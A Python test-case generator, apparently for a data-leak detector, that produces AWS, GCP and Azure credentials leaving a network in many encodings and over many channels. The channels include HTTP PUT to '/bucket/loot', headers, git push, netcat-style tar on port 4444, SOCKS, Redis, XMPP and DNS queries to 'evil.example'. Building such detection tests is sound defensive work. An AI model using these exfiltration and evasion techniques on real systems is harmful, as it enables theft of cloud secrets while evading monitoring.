"""More ways in which credentials leave: files and commands that hold them, other channels, answers of every kind."""
import base64
import gzip
import json
import struct
import zlib
from urllib.parse import quote

from disguises import FORM, JSON, XML, h2, multipart_post, zipped
from leaks import DROP, answered, drop, leak, stream
from wire import *


def pack_line(data):
    return struct.pack(">I", len(data)) + data


def cases():
    for provider, text in {"aws": AWS, "gcp": GCP, "azure": AZURE}.items():
        data, flat = text.encode(), json.dumps(json.loads(text))
        values = [v for v in json.loads(text).values() if isinstance(v, str) and len(v) > 35]
        secret = values[0]
        ini = f"[default]\naws_access_key_id = {KEY_ID}\naws_secret_access_key = {SECRET}\naws_session_token = {SESSION}\n" if provider == "aws" else f"token = {secret}\n"
        # --- files and commands
        files = {
            "ini": (ini, "text/plain"), "env": ("".join(f"export SECRET_{i}='{v}'\n" for i, v in enumerate(values)), "text/plain"), "yaml": ("".join(f"secret{i}: \"{v}\"\n" for i, v in enumerate(values)), "application/yaml"), "python": (repr(json.loads(text)), "text/plain"), "php": ("".join(f's:{len(v)}:"{v}";' for v in values), "text/plain"),
            "xml": (f"<r>{''.join(f'<v>{v}</v>' for v in values)}</r>", XML), "cdata": (f"<r><![CDATA[{text}]]></r>", XML), "soap": (f'<soap:Envelope xmlns:soap="http://x"><soap:Body><out>{text.replace("&", "&amp;").replace(chr(34), "&quot;")}</out></soap:Body></soap:Envelope>', XML), "html": (f"<html><pre>{text}</pre></html>", "text/html"), "comment": (f"<html><!-- {text} --></html>", "text/html"),
            "json-in-json": (json.dumps({"output": text}), JSON), "json-in-json-in-json": (json.dumps({"a": json.dumps({"output": text})}), JSON), "json-list": (json.dumps([{"line": line} for line in text.splitlines()]), JSON), "json-unicode": (json.dumps({"o": "".join("\\u%04x" % ord(ch) for ch in text)}).replace("\\\\u", "\\u"), JSON), "json-slashes": (json.dumps({"o": text}).replace("/", "\\/"), JSON), "curl-verbose": (f"< HTTP/1.1 200 OK\n< Server: EC2ws\n<\n{text}\n", "text/plain"), "csv": ("name,value\n" + "".join(f"k{i},{v}\n" for i, v in enumerate(values)), "text/csv"),
            "gzip-hex": (gzip.compress(data).hex(), "text/plain"), "gzip-base64-url": (url64(gzip.compress(data)), "text/plain"), "hex-upper": (data.hex().upper(), "text/plain"), "hex-lines": ("\n".join(data.hex()[i:i + 64] for i in range(0, 2 * len(data), 64)), "text/plain"), "base32": (base64.b32encode(data).decode(), "text/plain"), "percent-all": ("".join("%%%02x" % b for b in data), FORM), "percent-twice": ("o=" + quote(quote(text, safe=""), safe=""), FORM), "base64-in-base64-in-json": (json.dumps({"d": base64.b64encode(base64.b64encode(data)).decode()}), JSON), "escaped-x": ("".join("\\x%02x" % b for b in data), "text/plain"), "html-entities": ("".join(f"&#{b};" for b in data), "text/html"),
        }
        for name, (body, kind) in files.items():
            yield f"file-{provider}-{name}", drop(post(body, kind), provider)
            yield f"file-{provider}-{name}-answer", answered(body.encode(), kind=kind, provider=provider)
            yield f"file-{provider}-{name}-part", drop(multipart_post([('Content-Disposition: form-data; name="f"; filename="o"', body)]), provider)
        # --- channels
        yield f"put-{provider}", drop(post(data, "application/octet-stream", "/bucket/loot").replace(b"POST", b"PUT", 1), provider)
        yield f"header-{provider}", drop(get("/", f"X-Data: {secret[:900]}\r\n"), provider)
        yield f"agent-{provider}", drop(f"GET / HTTP/1.1\r\nHost: d.example\r\nUser-Agent: {secret[:900]}\r\n\r\n".encode(), provider)
        yield f"path-{provider}", drop(get("/" + quote(secret[:900], safe="")), provider)
        yield f"location-{provider}", answered(b"", f"Location: http://d.example/?o={quote(secret, safe='')}\r\n", provider=provider)
        yield f"cookie-set-{provider}", answered(b"", f"Set-Cookie: s={quote(secret, safe='')}\r\n", provider=provider)
        yield f"events-{provider}", answered("".join(f"data: {line}\n" for line in text.splitlines()).encode() + b"\n", kind="text/event-stream", provider=provider)
        yield f"ndjson-{provider}", answered((json.dumps({"i": 1}) + "\n" + flat + "\n").encode(), kind="application/x-ndjson", provider=provider)
        yield f"gzip-long-{provider}", answered(gzip.compress((rand(8, 200_000) + "\n" + text + "\n" + rand(9, 200_000)).encode()), "Content-Encoding: gzip\r\n", provider=provider)
        yield f"gzip-table-{provider}", answered(gzip.compress(("".join(f"{i} a line of a log that is like all others {i * 7}\n" for i in range(20_000)) + text).encode()), "Content-Encoding: gzip\r\n", provider=provider)
        loot = zipped([(f"loot/{i}.txt", rand(i, 40_000)) for i in range(5)] + [("creds.json", text)])
        yield f"zip-long-{provider}", drop(post(loot, "application/zip"), provider)
        yield f"zip-long-{provider}-chunked", drop(post_chunked(loot, "application/zip"), provider)
        yield f"h2-{provider}-answer", leak(h2([(":method", "GET"), (":path", "/x"), (":scheme", "http"), (":authority", "a")], b"", [(":status", "200")], data, meanwhile=lambda: None, port=8080), provider)
        yield f"half-{provider}-1", drop(post(secret[:len(secret) // 2], "text/plain"), provider)
        yield f"half-{provider}-2", drop(post(secret[len(secret) // 2:], "text/plain"), provider)
        yield f"git-{provider}", stream([("c", b"0032git-receive-pack /repo.git\0host=d.example\0"), ("s", b"0000"), ("c", b"PACK\0\0\0\2\0\0\0\1\xb0\x05" + zlib.compress(data))], 9418, provider=provider)
        yield f"ftp-data-{provider}", stream([("c", ini.encode())], 20, provider=provider)
        yield f"nc-tar-{provider}", stream([("c", b"etc/creds\0" + b"\0" * 502 + data + b"\0" * 512)], 4444, provider=provider)
        yield f"socks-{provider}", stream([("c", b"\5\1\0"), ("s", b"\5\0"), ("c", b"\5\1\0\1\x0a\0\0\1\0\x50"), ("s", b"\5\0\0\1\0\0\0\0\0\0"), ("c", post(data, "text/plain"))], 1080, provider=provider)
        yield f"connect-{provider}", stream([("c", b"CONNECT d.example:80 HTTP/1.1\r\nHost: d.example:80\r\n\r\n"), ("s", b"HTTP/1.1 200 OK\r\n\r\n"), ("c", post(data, "text/plain"))], 3128, provider=provider)
        yield f"redis-hash-{provider}", stream([("c", b"*4\r\n$4\r\nHSET\r\n$1\r\nk\r\n$1\r\nf\r\n$%d\r\n%s\r\n" % (len(data), data)), ("s", b":1\r\n")], 6379, provider=provider)
        yield f"xmpp-{provider}", stream([("c", b"<?xml version='1.0'?><stream:stream to='d' xmlns='jabber:client'>"), ("s", b"<stream:features/>"), ("c", f"<message to='a@d'><body>{base64.b64encode(data).decode()}</body></message>".encode())], 5222, provider=provider)
        yield f"stomp-{provider}", stream([("c", b"CONNECT\naccept-version:1.2\n\n\0"), ("s", b"CONNECTED\nversion:1.2\n\n\0"), ("c", b"SEND\ndestination:/q\n\n" + data + b"\0")], 61613, provider=provider)
        yield f"beats-{provider}", stream([("c", b"2W\0\0\0\1" + b"2C" + pack_line(zlib.compress(b"2J\0\0\0\1" + pack_line(json.dumps({"message": text}).encode()))))], 5044, provider=provider)
        yield f"fluent-{provider}", stream([("c", b"\x93\xa3app\xce\x6b\0\0\0\x81\xa3log\xda" + struct.pack(">H", len(data)) + data)], 24224, provider=provider)
        def queries(c, secret=secret):
            labels = [secret[-60:].encode().hex()[i:i + 60] for i in range(0, 120, 60)]
            q = b"".join(bytes([len(label)]) + label.encode() for label in labels) + b"\1x\4evil\7example\0\0\1\0\1"
            c.datagram(APP, "10.20.0.2", 40001, 53, b"\0\7\1\0\0\1\0\0\0\0\0\0" + q)
        yield f"dns-hex-{provider}", leak(queries, provider)
